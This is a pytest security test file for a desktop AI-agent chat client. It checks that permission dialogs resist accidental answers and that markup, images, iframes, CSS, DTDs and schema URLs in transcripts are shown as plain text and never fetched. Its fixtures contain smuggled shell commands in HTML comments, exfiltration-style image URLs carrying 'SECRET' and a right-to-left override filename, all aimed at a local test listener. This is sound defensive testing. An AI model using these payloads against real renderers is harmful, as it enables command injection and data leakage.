"""The threat catalogue: dialogs and the transcript, with real widgets and a listener that counts."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest
from PySide6.QtCore import QElapsedTimer, Qt
from PySide6.QtWidgets import QApplication, QLabel, QMessageBox, QPushButton, QTextEdit, QWidget
from pytestqt.qtbot import QtBot

from core.config.acting_files import ActingFile
from core.events import RequestAsked
from core.sessions.models import ReasoningPart, TextPart
from desktop import dialogs
from desktop.chat.label import ElidedLabel
from desktop.chat.text_block import LocalDocument, TextBlock
from desktop.event_loop import EventLoop
from desktop.permissions.guard import GUARD_MS
from desktop.tips import plain_tip
from desktop.trust import listing
from tests.desktop.chat.test_transcript import Shown
from tests.desktop.conversations import SESSION, message, request, tool
from tests.desktop.permissions.test_dialog import BUTTONS, Screen
from tests.security.places import Listener

DECEIVING = (
    '<b>safe</b><!-- ; touch /tmp/canary --><img src="{url}/x"><style>*{{color:red}}</style>'
)


def test_f1_nothing_that_is_typed_into_the_chat_answers_a_request(
    screen: Screen, qtbot: QtBot
) -> None:
    """Space, Enter, digits and letters that are shortcuts elsewhere, faster than anybody types."""
    keys = [Qt.Key.Key_Space, Qt.Key.Key_Return, Qt.Key.Key_1, Qt.Key.Key_Y, Qt.Key.Key_A]
    keys += [Qt.Key.Key_Enter, Qt.Key.Key_2, Qt.Key.Key_O, Qt.Key.Key_N]
    for number in range(100):
        screen.book.apply(RequestAsked(SESSION, request(command=f"rm {number}")))
        if screen.dialog.isHidden():
            screen.dialog.show_request(screen.book.all()[0])
        qtbot.keyClick(QApplication.focusWidget() or screen.composer, keys[number % len(keys)])
    assert screen.composer.hasFocus()
    assert screen.answers == []
    assert len(screen.book) == 100


def test_f1_a_click_that_was_meant_for_what_lay_below_answers_nothing(
    screen: Screen, qtbot: QtBot
) -> None:
    shown = QElapsedTimer()
    for name in BUTTONS:
        screen.ask(command="touch canary")
        shown.start()
        screen.click(name)
        qtbot.mouseDClick(screen.button(name), Qt.MouseButton.LeftButton)
        if shown.elapsed() < GUARD_MS:  # a machine that stood still proves nothing
            assert screen.answers == []
        screen.answers.clear()
        screen.dialog.hide()
    assert not any(button.isDefault() for button in screen.dialog.findChildren(QPushButton))


def test_f4_dialogs_show_markup_as_it_is_written(
    screen: Screen, listener: Listener, tmp_path: Path, qtbot: QtBot
) -> None:
    text = DECEIVING.format(url=listener.url)
    screen.ask(
        command=text,
        title=text,
        agent_path=["build", text],
        directory=text,
        why=[text],
        suggestions=[{"permission": "bash", "pattern": text}],
    )
    screen.grow_old()
    assert "touch /tmp/canary" in screen.text()
    assert "<b>safe</b>" in screen.text()
    check_plain(screen.window)
    assert listener.heard == []


def check_plain(widget: QWidget) -> None:
    """No label guesses, no editor takes HTML, no tool tip is anything but the text."""
    for label in widget.findChildren(QLabel):
        if label.text():
            assert label.textFormat() == Qt.TextFormat.PlainText, label.text()
    for block in widget.findChildren(TextBlock):
        assert isinstance(block.document, LocalDocument)
    assert not widget.findChildren(QTextEdit)
    for child in [widget, *widget.findChildren(QWidget)]:
        assert "<b>" not in child.toolTip(), child.toolTip()
        assert "<img" not in child.toolTip(), child.toolTip()


async def asked(window: QWidget, text: str) -> None:
    question = asyncio.ensure_future(dialogs.choose(window, text, text, [("no", "Cancel")]))
    await asyncio.sleep(0)  # for the dialog to be made
    boxes = window.findChildren(QMessageBox)
    for label in boxes[0].findChildren(QLabel):
        if label.text():
            assert label.textFormat() == Qt.TextFormat.PlainText
            assert label.text() == text
    boxes[0].close()
    await question


def test_f4_questions_and_tool_tips_too(app: QApplication, qtbot: QtBot) -> None:
    window = QWidget()
    qtbot.addWidget(window)
    with asyncio.Runner(loop_factory=lambda: EventLoop(app)) as runner:
        runner.run(asked(window, "<b>safe</b><!-- not -->"))
    label = ElidedLabel("<b>safe</b><!-- ; touch canary -->" + "x" * 200, window)
    label.resize(40, 20)
    label.resizeEvent(object())
    assert "&lt;b&gt;safe" in label.toolTip()
    assert "touch canary" in label.toolTip()
    assert plain_tip("npm test\nin /work") == "npm test\nin /work"


@pytest.mark.parametrize("where", ["prose", "thinking", "tool", "person"])
def test_g4_the_transcript_loads_nothing(
    where: str, app: QApplication, qtbot: QtBot, listener: Listener, tmp_path: Path
) -> None:
    secret, url = tmp_path / "secret.png", listener.url
    secret.write_bytes(b"not an image")
    text = "\n\n".join(
        [
            f"![x]({url}/?d=SECRET)",
            f"![y][ref]\n\n[ref]: {url}/ref",
            f'<img src="{url}/html"> <iframe src="{url}/frame"></iframe>',
            f"<style>body {{ background: url({url}/css) }}</style>",
            f"![local](file://{secret}) ![data](data:image/png;base64,iVBORw0KGgo=)",
            f'<link rel="stylesheet" href="{url}/link.css"><object data="{url}/o"></object>',
            f"```html\n<img src='{url}/code'>\n```",
            f"| a | b |\n|---|---|\n| ![t]({url}/table) | x |",
        ]
    )
    if where == "tool":
        made = message("assistant", tool("bash", input={"command": text}, output=text, title=text))
    elif where == "thinking":
        made = message("assistant", ReasoningPart(text=text))
    else:
        made = message("user" if where == "person" else "assistant", TextPart(text=text))
    shown = Shown([made])
    qtbot.addWidget(shown.view)
    shown.view.grab()
    shown.settle()
    for block in shown.view.findChildren(TextBlock):
        assert isinstance(block.document, LocalDocument)
        block.grab()
        assert "￼" not in block.plain_text()
    check_no_rich_labels(shown.view)
    assert listener.heard == []


def check_no_rich_labels(widget: QWidget) -> None:
    for label in widget.findChildren(QLabel):
        if label.text():
            assert label.textFormat() == Qt.TextFormat.PlainText, label.text()


def test_g8_no_schema_is_fetched_for_a_file_that_is_shown(
    app: QApplication, qtbot: QtBot, listener: Listener
) -> None:
    content = json.dumps({"$schema": f"{listener.url}/schema.json", "a": 1})
    xml = f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{listener.url}/a.dtd"><a/>'
    shown = Shown(
        [
            message(
                "assistant",
                tool("write", input={"file_path": "a.json", "content": content}, output="ok"),
                tool("read", input={"file_path": "a.xml"}, output=xml),
                TextPart(text=f"```json\n{content}\n```\n\n```xml\n{xml}\n```"),
            )
        ]
    )
    qtbot.addWidget(shown.view)
    shown.view.grab()
    shown.settle()
    assert listener.heard == []


def test_f2_what_starts_programs_is_listed_first_when_a_project_is_to_be_trusted() -> None:
    many = [ActingFile(f".claude/commands/a{n}.md", "a command", "x") for n in range(500)]
    last = ActingFile(".claude/settings.json", "runs by itself: touch \u202ecanary", "x")
    lines = listing([*many, last]).splitlines()
    assert "runs by itself: touch" in lines[0]
    assert "\u202e" not in lines[0]
    assert lines[-1] == "  and 489 more"
    assert len(listing([last] * 40).splitlines()) == 40
